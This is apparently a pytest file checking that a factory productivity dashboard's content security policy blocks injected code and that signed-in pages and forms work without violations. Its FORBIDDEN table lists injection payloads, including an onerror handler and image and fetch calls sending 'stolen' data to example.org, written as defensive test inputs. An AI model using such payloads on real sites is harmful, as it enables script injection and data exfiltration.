"""The content security policy, enforced: what isn't ours does not run, and people at a server with a door notice nothing of it."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from admission import PASSWORD, admission
from conftest import Page, address_of, served
from crowds import fill

FORBIDDEN = {
    "a script in the page": "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))",
    "a script of a text": "setTimeout('window.ran = true')",
    "a handler in the page": "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.ran = true\">')",
    "a script of another host": "document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.org/x.js' }))",
    "a picture of another host": "new Image().src = 'https://example.org/x.png?stolen'",
    "a call to another host": "fetch('https://example.org/stolen').catch(() => {})",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: '/health' }))",
}


@pytest.mark.parametrize("what", FORBIDDEN)
def test_what_is_not_ours_does_not_run(real_page, what: str) -> None:
    real_page.go("/")
    real_page.text(".welcome", "Main site")
    # Selenium's own script is no part of the page; what it puts there is.
    told = real_page.dash.driver.execute_async_script(
        "const [script, done] = arguments; document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });"
        "setTimeout(() => done('nothing'), 5000);" + FORBIDDEN[what],
        what,
    )
    assert told.split("-")[0] in ("script", "img", "connect", "frame")
    assert real_page.dash.driver.execute_script("return window.ran") is None
    real_page.dash.get_logs()
    assert any("Content Security Policy" in line for line in real_page.dash.forbidden)
    real_page.dash.forbidden.clear()  # as it had to be


@pytest.fixture
def guarded(tab, doorway, tmp_path: Path) -> Iterator[Page]:
    """An app at whose door everybody signs in."""
    with admission(tmp_path) as app:
        fill(app)
        with served(app.dash, doorway):
            yield Page(tab, app.services, address_of(doorway))
            assert tab.get_logs() == []
            tab.driver.get("about:blank")


def sign_in(page: Page, login: str) -> None:
    page.go("/sign-in?next=/workers%3Fsite%3Dnorth%26range%3Dall")
    for name, text in {"login": login, "password": PASSWORD}.items():
        page.dash.find_element(f"[name={name}]").send_keys(text)
    page.dash.find_element("button[type=submit]").click()


def test_signed_in_people_see_all_pages_without_a_violation(guarded: Page) -> None:
    sign_in(guarded, "chief")
    guarded.text(".ag-center-cols-container, .ag-pinned-left-cols-container", "Person Number")
    for path, selector, text in [
        ("/?site=north&range=all", ".crew", "Person Number"),
        ("/timeline?site=north&range=all", ".timeline", "Person Number"),
        ("/privacy", "h1", "Privacy"),
        ("/users", "h1", "Users"),
        ("/keys", "h1", "Keys"),
        ("/audit", "h1", "Audit trail"),
        ("/account", "h1", "My account"),
        ("/api/docs", ".swagger-ui", "Factory Productivity Dashboard"),
    ]:
        guarded.go(path)
        guarded.text(selector, text)


def test_a_form_of_ours_is_sent(guarded: Page) -> None:
    sign_in(guarded, "local")
    guarded.text(".ag-pinned-left-cols-container", "Person Number")
    guarded.go("/privacy")
    guarded.dash.find_element("input[value=station]").click()
    guarded.dash.find_element("form[method=post][action='/privacy/choice/north'] button").click()
    guarded.text("[role=status], .notice--good", "it holds at once")
    guarded.go("/?site=north&range=all")
    guarded.text(".sentence, main", "This site shows figures of workstations")
    assert guarded.dash.driver.execute_script("return getComputedStyle(document.querySelector('.overview__crew')).display") == "none"
